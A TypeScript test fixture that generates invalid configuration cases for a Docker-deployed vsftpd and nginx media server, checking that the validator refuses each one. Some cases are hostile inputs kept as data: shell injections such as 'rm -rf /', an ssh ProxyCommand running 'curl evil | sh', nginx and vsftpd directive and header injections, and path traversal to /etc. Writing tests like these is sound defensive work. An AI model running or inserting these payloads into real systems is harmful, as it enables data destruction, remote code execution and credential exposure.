/**
 * The bad-config matrix: one wrong-type case for every field of the schema (generated from it),
 * and hand-written cases for what each field must refuse: ranges, privileged and colliding ports,
 * passive ranges, reserved and duplicate names, paths escaping the media, characters that would
 * break out of an nginx or vsftpd directive, secrets, CIDRs, image references and SSH hosts.
 */
import type { StackConfig } from "../support/project";
import { withValue } from "../support/stacks";
import { configFields, dottedAtFirst, messagePathAtFirst, type FieldKind } from "./configFields";
import { everyFieldConfig } from "./everyField";

export interface BadCase {
  /** The schema field the case is about, e.g. `ftp.users[].name`. */
  readonly field: string;
  /** "type": a value of the wrong JSON type; "value": the right type, a refused value. */
  readonly kind: "type" | "value";
  /** The config path the error message must name, e.g. `ftp.users[1].name`. */
  readonly at: string;
  readonly title: string;
  readonly config: StackConfig;
}

/** `ftp.users.1.name` → `ftp.users[1].name` */
const messagePath = (dotted: string): string => dotted.replace(/\.(\d+)(?=\.|$)/g, "[$1]");
/** `ftp.users.1.name` → `ftp.users[].name` */
const fieldOf = (dotted: string): string => dotted.replace(/\.\d+(?=\.|$)/g, "[]");

const show = (value: unknown): string => {
  const text = JSON.stringify(value) ?? String(value);
  return text.length > 60 ? `${text.slice(0, 57)}…` : text;
};

/** A value of another JSON type than the field takes. */
const WRONG_TYPE: Record<FieldKind, unknown> = {
  string: 42,
  number: "21",
  boolean: "yes",
  enum: 1,
  array: "a,b",
  object: ["x"],
};

export function typeCases(base: StackConfig = everyFieldConfig()): BadCase[] {
  return configFields().map(({ path, kind }) => {
    const at = messagePathAtFirst(path);
    // Pulumi hands top-level keys to the program as strings: a number would arrive as "42".
    const value = kind === "string" && !path.includes(".") ? { x: 1 } : WRONG_TYPE[kind];
    const title = `${at} = ${show(value)} (wrong type for ${/^[aeiou]/.test(kind) ? "an" : "a"} ${kind} field)`;
    return { field: path, kind: "type", at, title, config: withValue(base, dottedAtFirst(path), value) };
  });
}

/** [dotted path to set, value, why; the path the message names when another field is blamed]. */
type Row = readonly [string, unknown, string, string?];

const ROWS: readonly Row[] = [
  // Ports: range, whole numbers, privileged passive ports, collisions.
  ["ftp.port", 0, "port 0"],
  ["ftp.port", 2121.5, "fractional port"],
  ["ftp.port", 30005, "control port inside the passive range"],
  ["http.port", 2121, "HTTP port equal to the FTP control port"],
  ["http.port", 30000, "HTTP port at the bottom of the passive range"],
  ["ftp.passivePorts.min", 1023, "privileged passive port"],
  ["ftp.passivePorts.max", 70000, "passive port above 65535"],
  ["ftp.passivePorts.max", 29999, "inverted passive range (empty)", "ftp.passivePorts"],
  ["ftp.passivePorts", { min: 30000, max: 30100 }, "101 passive ports"],
  ["ftp.passivePorts", { min: 30000 }, "passive range without max", "ftp.passivePorts.max"],
  // Addresses.
  ["ftp.bindAddress", "localhost", "host name as bind address"],
  ["http.bindAddress", "127.0.0.1; rm -rf /", "shell after the address"],
  ["ftp.passiveAddress", "ftp.example.com\npasv_enable=NO", "a second vsftpd directive after a newline"],
  ["ftp.passiveAddress", "", "empty passive address"],
  // FTP users: names, reserved names, duplicates, passwords, roots.
  ["ftp.users", [], "no FTP user"],
  ["ftp.users.0.name", "Editor", "upper-case user name"],
  ["ftp.users.0.name", "editor:x", "':' would add a field to the password file"],
  ["ftp.users.0.name", "editor\nroot", "newline would add a line to the password file"],
  ["ftp.users.0.name", "../etc", "path in a user name (names the per-user config file)"],
  ["ftp.users.1.name", "root", "reserved name root"],
  ["ftp.users.1.name", "ftp", "reserved name ftp"],
  ["ftp.users.1.name", "nginx", "reserved name nginx"],
  ["ftp.users.1.name", "www-data", "reserved name www-data"],
  ["ftp.users.2.name", "editor", "duplicate user name"],
  ["ftp.users.0.password", "", "empty password"],
  ["ftp.users.0.password", "seven-7", "7-character password"],
  ["ftp.users.0.password", "ü".repeat(37), "74-byte password (bcrypt reads 72)"],
  ["ftp.users.0.password", "pass\nword-123", "newline in password"],
  ["ftp.users.1.root", "..", "root '..'"],
  ["ftp.users.1.root", "team-a/../..", "root climbing out through '..'"],
  ["ftp.users.1.root", "/etc", "absolute root"],
  ["ftp.users.1.root", "team-a\\..\\..", "backslashes in root"],
  ["ftp.users.1.root", "team-a -> /etc", "symlink-looking root"],
  ["ftp.users.1.root", ".ssh", "dotfile root"],
  ["ftp.users.1.root", "team-a/videos", "root inside a writable location folder (vsftpd refuses the chroot)"],
  ["ftp.users.1.root", "team-b", "root holding no location folder"],
  // FTPS and login limits.
  ["ftp.tls", "on", "unknown TLS mode"],
  [
    "ftp.tlsCertificate",
    "-----BEGIN CERTIFICATE-----\nQUJD\n-----END CERTIFICATE-----\nrsa_cert_file=/etc/shadow",
    "a directive after the PEM",
  ],
  [
    "ftp.tlsKey",
    "-----BEGIN CERTIFICATE-----\nQUJD\n-----END CERTIFICATE-----\n",
    "a certificate given as the key",
  ],
  ["ftp.tlsKey", undefined, "TLS enabled without a key"],
  ["ftp.maxLoginFails", 0, "no login attempt allowed"],
  ["ftp.delayFailedLogin", -1, "negative delay"],
  ["ftp.maxPerIp", 101, "more sessions per address than in all"],
  ["ftp.maxClients", 10001, "above 10000 sessions"],
  // HTTP: server name, locations.
  ["http.serverName", "media.example.com; return 301 http://evil.example", "a second nginx directive"],
  ["http.serverName", "media.example.com\n}\nserver {", "a newline closing the server block"],
  ["http.serverName", "$host", "an nginx variable"],
  ["http.serverName", "~^(?<x>.+)$", "an nginx regex server name"],
  ["http.locations", [], "no location"],
  ["http.locations.0.path", "/videos/;", "';' in a location path"],
  ["http.locations.0.path", "/videos/{", "'{' in a location path"],
  ["http.locations.0.path", '/vid"eos/', "a double quote in a location path"],
  ["http.locations.0.path", "/$uri/", "'$' in a location path"],
  ["http.locations.0.path", "/my videos/", "a space in a location path"],
  ["http.locations.0.path", "/videos/\nlocation / {", "a newline in a location path"],
  ["http.locations.0.path", "~ ^/(.*)$", "a regex location"],
  ["http.locations.0.path", "/vid*eos/", "'*' in a location path"],
  ["http.locations.0.path", "/videos", "no trailing '/'"],
  ["http.locations.0.path", "/../", "'..' as a location path"],
  ["http.locations.0.path", "/images/", "duplicate location path", "http.locations[1].path"],
  ["http.locations.0.directory", "../etc", "directory escaping the media"],
  ["http.locations.0.directory", "/etc", "absolute directory"],
  ["http.locations.0.directory", "videos; autoindex on", "a directive after the directory"],
  [
    "http.locations.0.directory",
    "team-a",
    "directory holding another location's directory",
    "http.locations[2].directory",
  ],
  ["http.locations.0.allow.0", "10.0.0.0/33", "IPv4 prefix above 32"],
  ["http.locations.0.allow.0", "all", "nginx's 'all' keyword"],
  ["http.locations.0.deny.0", "10.0.0.0/8; allow all", "a directive after the CIDR"],
  ["http.locations.0.corsOrigins.0", "https://player.example.com/embed", "origin with a path"],
  [
    "http.locations.0.corsOrigins.0",
    "https://player.example.com\r\nSet-Cookie: x=1",
    "a header after the origin",
  ],
  ["http.locations.0.cacheSeconds", 31_536_001, "more than a year of caching"],
  ["http.locations.0.limitRate", "0", "rate 0"],
  ["http.locations.0.limitRateAfter", "10 m", "space in a size"],
  ["http.locations.0.limitConnPerIp", 0, "no connection per address"],
  ["http.users.0.name", "Viewer Name", "space in a basic-auth user name"],
  ["http.users.0.password", "", "empty basic-auth password"],
  ["http.users.0.password", undefined, "basic-auth user without a password"],
  [
    "http.users",
    [
      { name: "viewer", password: "viewer-http-password" },
      { name: "viewer", password: "other-http-password" },
    ],
    "duplicate basic-auth user",
    "http.users[1].name",
  ],
  ["http.users", [], "basic auth with no user", "http.locations[0].basicAuth"],
  ["http.secureLinkSecret", "too-short", "secret under 16 characters"],
  ["http.secureLinkSecret", 'secret-with-a-"quote"-inside', "a quote would end nginx's string"],
  ["http.secureLinkSecret", "secret-with-$uri-inside-it", "'$' would expand an nginx variable"],
  ["http.secureLinkSecret", undefined, "secure links without a secret", "http.locations[0].secureLink"],
  ["http.gallery.path", "/gallery", "gallery path without trailing '/'"],
  ["http.gallery.path", "/videos/", "gallery on a location's path"],
  ["http.directio", "4g", "unit g"],
  // Docker side: names, images, host, media path.
  ["name", "-video-server", "name starting with '-'"],
  ["name", "video server", "space in the name"],
  ["images.ftp", "Registry.example.com/vsftpd:1.0", "upper-case registry"],
  ["images.ftp", "vsftpd:1.0 --privileged", "an argument after the reference"],
  ["images.web", "nginx@sha256:1234", "short digest"],
  ["target.dockerHost", "tcp://10.0.0.1:2375", "unencrypted TCP engine"],
  ["target.dockerHost", "ssh://media.example.com", "SSH host without a user"],
  ["target.dockerHost", "ssh://deploy@", "SSH URL without a host"],
  ["target.dockerHost", "ssh://deploy@media.example.com:70000", "SSH port above 65535"],
  ["target.dockerHost", "ssh://deploy@media.example.com;reboot", "a shell command after the host"],
  ["target.sshOpts.1", "ProxyCommand=sh -c 'curl evil | sh'", "spaces and quotes in an ssh argument"],
  ["target.sshOpts", Array.from({ length: 33 }, () => "-4"), "33 ssh arguments"],
  ["media.hostPath", "/srv/../etc", "'..' in the media path"],
  ["media.hostPath", "/", "the filesystem root as media"],
  ["media.hostPath", "/srv/media'; rm -rf '/", "a quote closing the shell word of mkdir"],
  ["media.hostPath", "~/media", "home-directory shorthand"],
];

export function valueCases(base: StackConfig = everyFieldConfig()): BadCase[] {
  return ROWS.map(([dotted, value, why, blamed]) => {
    const at = blamed ?? messagePath(dotted);
    const field = fieldOf(dotted);
    const title = `${at}: ${why} (${messagePath(dotted)} = ${show(value)})`;
    return { field, kind: "value", at, title, config: withValue(base, dotted, value) };
  });
}

export function badCases(): BadCase[] {
  return [...typeCases(), ...valueCases()];
}
